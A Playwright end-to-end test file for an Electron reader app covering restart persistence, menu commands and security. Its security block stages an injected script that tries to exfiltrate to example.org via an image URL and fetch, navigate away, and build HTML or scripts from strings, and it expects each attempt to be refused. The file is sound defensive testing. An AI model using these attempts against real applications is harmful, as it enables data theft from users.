import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { test as base, expect } from "playwright/test";
import { startAppHost } from "../fixtures/app-host.ts";
import { type ElectronInChromium, openElectronInChromium } from "../fixtures/electron-in-chromium.ts";
import type { MenuItem } from "../fixtures/fake-electron.ts";
import { asPlainText, cholera } from "../fixtures/sample-briefings.ts";
import { watchContext } from "../fixtures/watch-page.ts";
import { LibraryPage } from "../pages/library-page.ts";

// The shipped main, preload and page together. What only Electron itself can show is left to the specs that start it.

const rendererFolder = fileURLToPath(new URL("../../dist/renderer", import.meta.url));

interface Started {
  readonly app: ElectronInChromium;
  readonly library: LibraryPage;
}

interface Computer {
  readonly home: string;
  /** Starts the app in a fresh browser profile; a second start ends the first. */
  start(): Promise<Started>;
  stop(): Promise<void>;
  /** The test does what the page must not, so the browser's complaints are what it is there to see. */
  expectTrouble(): void;
}

interface Options {
  readonly language: "en" | "fr";
}

const test = base.extend<Options & { readonly computer: Computer }>({
  language: ["en", { option: true }],
  computer: async ({ browser, viewport, language }, use) => {
    const home = mkdtempSync(join(tmpdir(), "field-reader-shell-e2e-"));
    const locale = language === "fr" ? "fr-CD" : "en-GB";
    const troubles: string[] = [];
    let isTroubleExpected = false;
    let end: () => Promise<void> = async () => {};

    const computer: Computer = {
      home,
      async start() {
        await end();
        const permissions = ["clipboard-read", "clipboard-write"];
        const context = await browser.newContext({ viewport, locale, timezoneId: "Africa/Lubumbashi", permissions });
        const watch = await watchContext(context, "https://reader.test");
        const app = await openElectronInChromium(context, { rendererFolder, home, computer: { languages: [locale] } });
        end = async () => {
          end = async () => {};
          await app.close();
          await context.close();
          troubles.push(...watch.troubles);
        };
        const library = new LibraryPage(app.page, language);
        await library.whenReady();
        return { app, library };
      },
      stop: () => end(),
      expectTrouble: () => {
        isTroubleExpected = true;
      },
    };
    await use(computer);
    await end();
    rmSync(home, { recursive: true, force: true, maxRetries: 3 });
    if (!isTroubleExpected) expect(troubles).toEqual([]);
  },
});

async function importCholera({ app, library }: Started): Promise<void> {
  const choosing = app.page.waitForEvent("filechooser");
  await app.page.getByRole("button", { name: library.text.dialogs.welcome.files }).click();
  const file = { name: "sake.txt", mimeType: "text/plain", buffer: Buffer.from(asPlainText(cholera)) };
  await (await choosing).setFiles(file);
  const save = library.text.dialogs.import.save({ count: 1 });
  await app.page.getByRole("dialog").getByRole("button", { name: save }).click();
  await expect(library.reader.title).toHaveText(cholera.title);
}

const everyItem = (menu: readonly MenuItem[]): readonly MenuItem[] => menu.flatMap((one) => one.submenu ?? []);

test("what was imported is there after a restart, with nothing left of the browser's own storage @once", async ({
  computer,
}) => {
  await importCholera(await computer.start());
  const { library } = await computer.start();
  await library.open(cholera.title);
  await expect(library.reader.keyPoints).toHaveText([...cholera.keyPoints]);
});

test("a reloaded page has its library again, not “open elsewhere” @once", async ({ computer }) => {
  const started = await computer.start();
  await importCholera(started);
  await started.app.page.reload();
  await expect(started.library.row(cholera.title)).toBeVisible();
});

test("the browser host opens the library that Electron made", async ({ computer, browser, language }) => {
  const started = await computer.start();
  await importCholera(started);
  const { vaultFolder } = started.app;
  await computer.stop();

  const locale = language === "fr" ? "fr-CD" : "en-GB";
  const host = await startAppHost({ vaultFolder, dataFolder: computer.home, locale });
  const page = await browser.newPage({ locale });
  try {
    await page.goto(host.address);
    await new LibraryPage(page, language).open(cholera.title);
  } finally {
    await page.close();
    await host.stop();
  }
});

test("the system's menu carries the page's commands in its language, and they work", async ({ computer }) => {
  const { app, library } = await computer.start();
  const { groups, openSettings } = library.text.commands;
  await expect.poll(() => app.electron.menu.map(({ label }) => label)).toContain(groups.library);
  await expect.poll(() => everyItem(app.electron.menu).map(({ label }) => label)).toContain(openSettings);
  everyItem(app.electron.menu)
    .find(({ label }) => label === openSettings)
    ?.click?.();
  await expect(app.page.getByRole("dialog")).toBeVisible();
});

test("nothing of the page asks for anything but our own files @once", async ({ computer }) => {
  const started = await computer.start();
  await importCholera(started);
  expect(started.app.refusedRequests).toEqual([]);
  expect(started.app.refusedNavigations).toEqual([]);
});

test.describe("a script that got into the page @once", () => {
  test("finds no Node, no Electron and no port", async ({ computer }) => {
    const { app } = await computer.start();
    const found = await app.page.evaluate(async () => {
      const names = ["require", "process", "module", "electron", "ipcRenderer", "Buffer", "global"];
      const ports: unknown[] = [];
      window.addEventListener("message", ({ ports: given }) => ports.push(...given));
      window.postMessage("field-reader:host-port-wanted", location.origin);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { names: names.filter((name) => name in window), ports: ports.length };
    });
    expect(found).toEqual({ names: [], ports: 0 });
  });

  test("can't send anything out", async ({ computer }) => {
    computer.expectTrouble();
    const { app } = await computer.start();
    const outcomes = await app.page.evaluate(async () => {
      const image = new Image();
      const loaded = new Promise<string>((resolve) => {
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("refused");
      });
      image.src = "https://example.org/?what=was-read";
      const fetched = fetch("https://example.org/").then(
        () => "fetched",
        () => "refused",
      );
      return Promise.all([loaded, fetched]);
    });
    expect(outcomes).toEqual(["refused", "refused"]);
  });

  test("can't leave the page nor open another", async ({ computer }) => {
    computer.expectTrouble();
    const { app } = await computer.start();
    const address = app.page.url();
    await app.page.evaluate(() => {
      window.open("https://example.org/?what=was-read");
      location.href = "https://example.org/?what=was-read";
    });
    await expect.poll(() => app.refusedNavigations).toEqual(["https://example.org/?what=was-read"]);
    await expect.poll(() => app.page.context().pages().length).toBe(1);
    expect(app.page.url()).toBe(address);
  });

  test("can't make HTML, scripts or policies out of strings", async ({ computer }) => {
    computer.expectTrouble();
    const { app } = await computer.start();
    const outcomes = await app.page.evaluate(() => {
      const attempt = (action: () => unknown) => {
        try {
          action();
          return "done";
        } catch {
          return "refused";
        }
      };
      const factory = (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      return {
        html: attempt(() => {
          document.createElement("div").innerHTML = "<img src=x>";
        }),
        script: attempt(() => {
          document.createElement("script").textContent = "1";
        }),
        code: attempt(() => window.setTimeout("1" as unknown as () => void)),
        worker: attempt(() => new Worker("/assets/anything.js")),
        policy: attempt(() => factory.createPolicy("mine", { createHTML: (html: string) => html })),
        ourPolicyAgain: attempt(() => factory.createPolicy("worker-url", { createScriptURL: (url: string) => url })),
      };
    });
    expect(outcomes).toEqual({
      html: "refused",
      script: "refused",
      code: "refused",
      worker: "refused",
      policy: "refused",
      ourPolicyAgain: "refused",
    });
  });
});
